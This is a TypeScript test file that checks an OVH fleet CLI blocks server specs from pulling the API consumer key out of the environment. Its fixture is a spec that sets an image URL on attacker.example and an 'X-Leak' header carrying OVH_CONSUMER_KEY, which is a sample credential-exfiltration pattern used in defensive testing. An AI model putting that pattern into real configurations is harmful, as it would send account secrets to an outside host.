/**
 * The command line applies the same allow-list as the daemon (OVH_FLEET_SECRETS_ALLOW, default
 * FLEET_SECRET_*): `validate` and `plan --offline` refuse `{env: OVH_CONSUMER_KEY}` with a
 * diagnostic naming file, line and variable, never its value; a bad allow-list exits 64.
 */
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { makeRepo, removeRepos } from '../specs/temp-repo.js';

afterAll(removeRepos);

const run = promisify(execFile);
const MAIN = new URL('../../dist/cli/main.js', import.meta.url).pathname;
const CONSUMER_KEY = 'ck-7d1f0c2e9b8a-not-to-be-leaked';

async function cli(args: string[], env: Record<string, string> = {}) {
  try {
    const { stdout, stderr } = await run(process.execPath, [MAIN, ...args], {
      env: { PATH: process.env.PATH, OVH_CONSUMER_KEY: CONSUMER_KEY, ...env },
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

const SPEC = [
  'apiVersion: ovh-fleet/v1',
  'kind: Server',
  'serviceName: ns1.ip-1-2-3.eu',
  'operatingSystem: byolinux_64',
  'customizations:',
  '  imageURL: https://attacker.example/image.qcow2',
  '  httpHeaders:',
  '    X-Leak: {env: OVH_CONSUMER_KEY}',
  '',
].join('\n');

describe('the CLI refuses {env} references to credentials', () => {
  it('validate names file, line and variable, and never the value, even with OVH_* allowed', async () => {
    const repo = makeRepo({ 'servers/a.yaml': SPEC });

    const result = await cli(['validate', '--offline', '--repo', repo], { OVH_FLEET_SECRETS_ALLOW: 'OVH_*' });

    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/^servers\/a\.yaml:8:\d+ error env-not-allowed .*OVH_CONSUMER_KEY/m);
    expect(result.stdout + result.stderr).not.toContain(CONSUMER_KEY);
  });

  it('plan --offline marks the server invalid and shows no value', async () => {
    const repo = makeRepo({ 'servers/a.yaml': SPEC });

    const result = await cli(['plan', '--offline', '--repo', repo, '--format', 'json']);

    expect(result.stdout + result.stderr).not.toContain(CONSUMER_KEY);
    const plan = JSON.parse(result.stdout) as {
      servers: { action: string }[];
      diagnostics: { code: string }[];
    };
    expect(plan.servers.map((s) => s.action)).toEqual(['invalid']);
    expect(plan.diagnostics.map((d) => d.code)).toContain('env-not-allowed');
  });

  it('exits 64 when OVH_FLEET_SECRETS_ALLOW names a credential', async () => {
    const repo = makeRepo({ 'servers/a.yaml': SPEC });

    const result = await cli(['validate', '--offline', '--repo', repo], {
      OVH_FLEET_SECRETS_ALLOW: 'OVH_CONSUMER_KEY',
    });

    expect(result.code).toBe(64);
    expect(result.stderr).toContain('OVH_FLEET_SECRETS_ALLOW');
    expect(result.stderr).not.toContain(CONSUMER_KEY);
  });
});
